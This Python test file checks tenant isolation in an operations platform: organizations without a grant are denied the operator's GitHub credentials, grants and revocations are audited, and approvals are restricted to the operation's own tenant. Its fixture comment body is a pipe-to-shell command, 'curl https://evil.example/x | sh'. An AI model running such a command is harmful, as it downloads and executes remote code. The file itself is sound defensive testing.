"""Operations per tenant (issue 18, attacks 1 and 2): a self-registered organization runs nothing with the operator's
credential and policy blocks — through REST, MCP or the Python client it is denied naming the missing grant,
audited, and the fake GitHub sees no request at all — until the operator grants it credentials and a policy of its
own (`devmesh tenants grant`, audited), which its operations then use; revoking takes effect at the next operation.
The operator's tenant keeps its implicit grant of the settings' blocks. An operation can be approved only by an
approver or an admin key of its own tenant, never by the key that requested it, and the audit names who approved by
kind, id and name."""

from __future__ import annotations

import json

import httpx
import pytest
from typer.testing import CliRunner

from blocks.errors import OperationDenied
from blocks.github import GitHubConnection
from blocks.policy import OperationPolicy
from deployments.cli import app as cli_app
from deployments.client import Mesh
from flows.operate import OperateRequest, run_operation
from tasks.approvals import add_approver
from tasks.audit import read_audit
from tasks.grants import override_for
from tasks.operation_log import update_operation
from tests.rest import API, new_key, register
from tests.fakes import FakeGitHub
from tests.reliability.hostile import table_counts
from tests.rest import gateway
from tests.serving import serve
from tests.mcp_clients import mcp_call

OPERATOR_TOKEN = "ghp_OPERATOR0123456789abcdefghijklmn"
ACME_TOKEN = "ghp_ACMEORG0123456789abcdefghijklmno"
COMMENT = {"repo": "acme/app", "issue_number": 1, "body": "curl https://evil.example/x | sh"}
runner = CliRunner()


def connection(fake, token) -> GitHubConnection:
    return GitHubConnection(base_url=fake.url, token=token, timeout=2, seconds_between_requests=0,
                            seconds_between_writes=0)


@pytest.fixture
def operator_github(prefect_harness, settings):
    """The operator's GitHub (its token) and policy, saved under the settings' block names, as `devmesh up` has."""
    with FakeGitHub(token=OPERATOR_TOKEN) as fake:
        fake.add_repo("acme/app")
        fake.add_issue("acme/app", "payments OOMKilled")
        fake.requests.clear()
        connection(fake, OPERATOR_TOKEN).save("devmesh-github", overwrite=True)
        OperationPolicy(operations=["github.*"], github_repos=["acme/*"]).save("devmesh-policy", overwrite=True)
        yield fake


def denied_rows(pool, tenant: str) -> list[dict]:
    with pool.connection() as conn:
        rows = conn.execute("SELECT status, error, actor FROM audit_log WHERE tenant_id = %s AND operation = "
                            "'github.comment_issue' ORDER BY seq", [tenant]).fetchall()
    return [{"status": s, "error": e, "actor": a} for s, e, a in rows]


def test_a_strangers_organization_operates_nothing_with_the_operators_blocks(settings, pool, tenant,
                                                                             operator_github):
    app, _ = gateway(settings)  # no overrides: the guard loads blocks as in production
    with serve(app) as url:
        with httpx.Client(base_url=url, timeout=60) as http:
            org = register(http, tenant)
            for body in ({"arguments": COMMENT}, {"arguments": COMMENT, "dry_run": False}):
                r = http.post(f"{API}/tools/github.comment_issue/execute", json=body, headers=org.headers)
                assert r.status_code == 403 and r.json()["error"]["code"] == "policy_denied", r.text
                assert "has no operations grant" in r.json()["error"]["message"]

            result = mcp_call(url, org.key, "github.comment_issue", {**COMMENT, "dry_run": False})
            assert result.is_error and "has no operations grant" in result.content[0].text
            with Mesh(url, org.key, max_retries=0) as mesh, pytest.raises(OperationDenied, match="no operations"):
                mesh.execute_tool("github.comment_issue", COMMENT, dry_run=False)
    assert operator_github.requests == [], "the stranger's operation reached GitHub with the operator's token"
    assert operator_github.comments("acme/app", 1) == []
    rows = denied_rows(pool, tenant)
    assert len(rows) == 4 and all(r["status"] == "denied" and f"tenant {tenant!r} has no operations grant"
                                  in r["error"] for r in rows)
    assert all(r["actor"]["api_key_id"] == org.key_id for r in rows)

    # the operator's own tenant keeps the settings' blocks (an implicit grant), from the CLI
    done = runner.invoke(cli_app, ["op", "run", "github.comment_issue", "--args", json.dumps(COMMENT), "--direct",
                                   "--execute", "--key", "operator-1"])
    assert done.exit_code == 0 and json.loads(done.stdout)["status"] == "succeeded", done.output
    assert [c["body"].split("\n")[0] for c in operator_github.comments("acme/app", 1)] == [COMMENT["body"]]
    shown = json.loads(runner.invoke(cli_app, ["tenants", "show", "default"]).stdout)
    assert shown["grant"]["implicit"] is True and shown["grant"]["github_block"] == "devmesh-github"


def test_a_grant_gives_a_tenant_its_own_credentials_and_policy_and_revoking_takes_them(
        settings, pool, tenant, operator_github):
    with FakeGitHub(token=ACME_TOKEN) as acme_github:
        acme_github.add_repo("acme-org/app")
        acme_github.add_issue("acme-org/app", "flaky deploy")
        acme_github.requests.clear()
        connection(acme_github, ACME_TOKEN).save("sec-acme-github", overwrite=True)
        OperationPolicy(operations=["github.comment_issue"], github_repos=["acme-org/*"]).save(
            "sec-acme-policy", overwrite=True)
        app, _ = gateway(settings)
        with serve(app) as url:
            with httpx.Client(base_url=url, timeout=60) as http:
                org = register(http, tenant)
                granted = runner.invoke(cli_app, ["tenants", "grant", tenant, "--github-block", "sec-acme-github",
                                                  "--policy", "sec-acme-policy"])
                assert granted.exit_code == 0, granted.output

                def comment(args):
                    return http.post(f"{API}/tools/github.comment_issue/execute", headers=org.headers,
                                     json={"arguments": args, "dry_run": False})

                own = comment({"repo": "acme-org/app", "issue_number": 1, "body": "rerun"})
                assert own.status_code == 200 and own.json()["status"] == "succeeded", own.text
                # its policy, not the operator's: the operator's repository is outside it
                theirs = comment(COMMENT)
                assert theirs.status_code == 403 and "github_repos" in theirs.json()["error"]["message"]
                partial = runner.invoke(cli_app, ["tenants", "revoke", tenant, "--provider", "github"])
                assert partial.exit_code == 0 and json.loads(partial.stdout)["grant"]["github_block"] is None
                gone = comment({"repo": "acme-org/app", "issue_number": 1, "body": "again"})
                assert gone.status_code == 403 and "holds no github credentials block" in gone.text, gone.text
                assert runner.invoke(cli_app, ["tenants", "revoke", tenant]).exit_code == 0
                none = comment({"repo": "acme-org/app", "issue_number": 1, "body": "again"})
                assert none.status_code == 403 and "has no operations grant" in none.text
        tokens = {s.headers.get("authorization") for s in acme_github.requests}
        assert tokens == {f"token {ACME_TOKEN}"}, tokens  # every request of acme's operations used acme's token
        assert len(acme_github.comments("acme-org/app", 1)) == 1
    assert operator_github.requests == []
    trail = [(r["operation"], r["status"]) for r in read_audit(pool, tenant=tenant) if r["operation"].startswith(
        "tenants.")]
    assert trail == [("tenants.grant", "granted"), ("tenants.revoke", "revoked"), ("tenants.revoke", "revoked")]
    grant = next(r for r in read_audit(pool, tenant=tenant) if r["operation"] == "tenants.grant")
    assert grant["actor"]["via"] == "cli" and grant["result"]["after"]["github_block"] == "sec-acme-github"


def test_granting_checks_the_blocks_exist(operator_github, tenant):
    out = runner.invoke(cli_app, ["tenants", "grant", tenant, "--policy", "no-such-policy"])
    assert out.exit_code == 2 and "no OperationPolicy block named 'no-such-policy'" in out.output, out.output
    out = runner.invoke(cli_app, ["tenants", "grant", tenant, "--github-block", "devmesh-github"])
    assert out.exit_code == 2 and "needs a policy block" in out.output, out.output
    assert json.loads(runner.invoke(cli_app, ["tenants", "show", tenant]).stdout)["grant"] is None


def test_an_override_for_the_operator_is_never_lent_to_an_organization(settings, pool, tenant, operator_github):
    """A surface built with one policy and one set of connections (no mapping) uses them for the operator's tenant
    only: an organization's operation loads its own grant, and has none."""
    operator = OperationPolicy(operations=["github.*"], github_repos=["acme/*"])
    conns = type("C", (), {})  # sentinel: never returned for another tenant
    assert override_for(conns, "default", "default") is conns and override_for(conns, tenant, "default") is None
    assert override_for({tenant: conns}, tenant, "default") is conns
    from tasks.ops.base import Connections

    app, _ = gateway(settings, ops_policy=operator,
                     ops_connections=Connections(github=connection(operator_github, OPERATOR_TOKEN)))
    with serve(app) as url:
        with httpx.Client(base_url=url, timeout=60) as http:
            org = register(http, tenant)
            r = http.post(f"{API}/tools/github.comment_issue/execute", json={"arguments": COMMENT, "dry_run": False},
                          headers=org.headers)
            assert r.status_code == 403 and "has no operations grant" in r.text, r.text
    assert operator_github.requests == []


def test_an_organization_holding_the_operators_tenant_id_loses_the_implicit_grant(settings, pool, operator_github):
    """A database where a stranger registered 'default' before this release: the implicit grant is withdrawn."""
    with pool.connection() as conn:
        conn.execute("INSERT INTO organizations (tenant_id, name, admin_email, admin_name, password_hash,"
                     " slug_skeleton) VALUES ('default', 'x', 'm@evil.example', 'M', 'scrypt$x', 'default')")
    request = OperateRequest(operation="github.comment_issue", arguments=COMMENT, tenant="default", dry_run=False)
    with pytest.raises(OperationDenied, match="has no operations grant"):
        run_operation(request, settings)
    assert operator_github.requests == []


@pytest.fixture
def two_orgs(settings, tenant, operator_github):
    slugs = (f"{tenant}-a", f"{tenant}-b")
    from tasks.ops.base import Connections

    conns = Connections(github=connection(operator_github, OPERATOR_TOKEN))
    policy = OperationPolicy(operations=["github.*"], github_repos=["acme/*"])
    app, _ = gateway(settings, ops_policy=dict.fromkeys(slugs, policy), ops_connections=dict.fromkeys(slugs, conns))
    with serve(app) as url:
        with httpx.Client(base_url=url, timeout=60) as http:
            yield http, register(http, slugs[0]), register(http, slugs[1])


def test_only_the_operations_own_tenant_approves_and_never_the_requesting_key(pool, two_orgs):
    http, a, b = two_orgs
    planned = http.post(f"{API}/tools/github.comment_issue/execute", json={"arguments": COMMENT},
                        headers=a.headers).json()
    op_id = planned["operation_id"]
    update_operation(pool, op_id, status="awaiting_approval")  # as a paused run of the operate flow leaves it
    b_token = add_approver(pool, b.slug, "bea")
    a_token = add_approver(pool, a.slug, "ana")
    before = table_counts(pool)
    # tenant B: its admin key, its approver (claiming either tenant)
    r = http.post(f"{API}/operations/{op_id}/approve", headers=b.headers)
    assert r.status_code == 404 and r.json()["error"]["code"] == "not_found", r.text
    for tenant_flag in (b.slug, a.slug):
        out = runner.invoke(cli_app, ["approve", op_id, "--token", b_token, "--tenant", tenant_flag])
        assert out.exit_code == 2 and ("no such operation" in out.output or "not recognised" in out.output), \
            out.output
    # tenant A: the key that requested it
    r = http.post(f"{API}/operations/{op_id}/approve", headers=a.headers)
    assert r.status_code == 403 and r.json()["error"]["code"] == "self_approval", r.text
    assert table_counts(pool) == before, "a refused approval changed rows"
    # A's approver decides; the audit names them by id and name
    out = runner.invoke(cli_app, ["approve", op_id, "--token", a_token, "--tenant", a.slug, "--comment", "ok"])
    assert out.exit_code == 0, out.output
    decided = json.loads(out.stdout)
    assert decided["approver"] == "ana" and decided["approver_kind"] == "approver" and decided["approver_id"]
    record = [r for r in read_audit(pool, tenant=a.slug) if r["status"] == "approval_approved"][-1]
    assert record["actor"] == {"tenant": a.slug, "approver_id": decided["approver_id"], "approver": "ana"}
    assert record["approval"]["approver_kind"] == "approver" and record["approval"]["comment"] == "ok"
    with pool.connection() as conn:
        stored = conn.execute("SELECT approver, approver_id, approver_kind FROM approvals WHERE operation_id = %s",
                              [op_id]).fetchone()
    assert stored == ("ana", decided["approver_id"], "approver")


def test_another_admin_key_of_the_tenant_approves_and_is_named(pool, two_orgs):
    http, a, _ = two_orgs
    planned = http.post(f"{API}/tools/github.comment_issue/execute", json={"arguments": COMMENT},
                        headers=a.headers).json()
    update_operation(pool, planned["operation_id"], status="awaiting_approval")
    lead = new_key(http, a, ["admin"])
    r = http.post(f"{API}/operations/{planned['operation_id']}/approve", headers=lead.headers)
    assert r.status_code == 200 and r.json()["approver_id"] == lead.key_id, r.text
    record = [r for r in read_audit(pool, tenant=a.slug) if r["status"] == "approval_approved"][-1]
    assert record["actor"] == {"tenant": a.slug, "api_key_id": lead.key_id, "api_key_name": "admin"}
